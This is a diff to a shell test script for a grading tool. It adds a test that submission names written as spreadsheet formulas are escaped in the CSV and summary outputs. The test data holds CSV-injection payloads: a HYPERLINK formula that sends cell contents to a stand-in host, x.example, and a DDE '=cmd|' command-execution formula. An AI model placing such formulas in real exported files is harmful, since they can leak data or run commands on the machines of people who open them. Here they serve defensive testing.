@@ -222,6 +222,50 @@ else
 fi
 check "the summary table lists every student" test "$(grep -cE '^(alice|bob|carol|traversal) ' "$O1/summary.txt")" = 4
 
+# ---- an attacked grader: names that are spreadsheet formulas -----------------
+
+# Submissions named as formulas (OWASP's CSV injection): every text cell of
+# grades.csv a spreadsheet would evaluate (or shift) carries a leading
+# single quote, the submission's name reads back whole behind it, and the
+# summary table's student cell is guarded the same way.  Empty folders:
+# every lab is missing, so nothing is built.
+F="$TMP/formulas"
+mkdir -p "$F"
+# (A tab cannot lead a submission's name, which the grader refuses with
+# one; the unit test of the CSV writer takes that case.)
+# A name holds no '/', hence CHAR(47).
+formulas=('+1+1' '@SUM(1+1)' '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"x.example"&CHAR(47)&"?"&C2,"grades")' '-2+3'
+          $'\rCR' '=cmd|'"' -C calc'"'!A0')
+for name in "${formulas[@]}"; do mkdir -p "$F/$name"; done
+"$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/o-formula" "$F"/* > "$TMP/o-formula.log" 2>&1
+if command -v python3 > /dev/null; then
+    bad=$(python3 -c '
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="")))
+head, body = rows[0], rows[1:]
+names = set(sys.argv[2:])
+numeric = {"score", "max_score", "graded_max_score", "labs_not_graded", "01"}
+out = []
+if len(body) != len(names):
+    out.append("%d rows for %d submissions" % (len(body), len(names)))
+for r in body:
+    for h, c in zip(head, r):
+        if h not in numeric and c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
+            out.append("%s cell %r" % (h, c))
+    sub = r[head.index("submission")]
+    if not (sub.startswith("\x27") and sub[1:] in names):
+        out.append("submission %r is not a guarded name" % sub)
+print("; ".join(out))' "$TMP/o-formula/grades.csv" "${formulas[@]}")
+    check "grades.csv: a submission or student named as a formula is a quoted text cell (${bad:-none left})" \
+        test -z "$bad" -a -s "$TMP/o-formula/grades.csv"
+else
+    skip "grades.csv: names as formulas are quoted text cells" "python3 not installed"
+fi
+# The students' lines: after the header, up to the blank line before the legend.
+students=$(awk 'NR > 1 && /^$/ { exit } NR > 1' "$TMP/o-formula/summary.txt")
+check "summary.txt: no student cell starts as a formula" \
+    test "$(wc -l <<<"$students")" = ${#formulas[@]} -a -z "$(grep -E $'^[-=+@\t\r]' <<<"$students")"
+
 # ---- roster ------------------------------------------------------------------
 
 "$GRADE" "${OPTS[@]}" --roster tests/grade/roster.csv -o "$TMP/o-roster" "$S"/* > /dev/null 2>&1
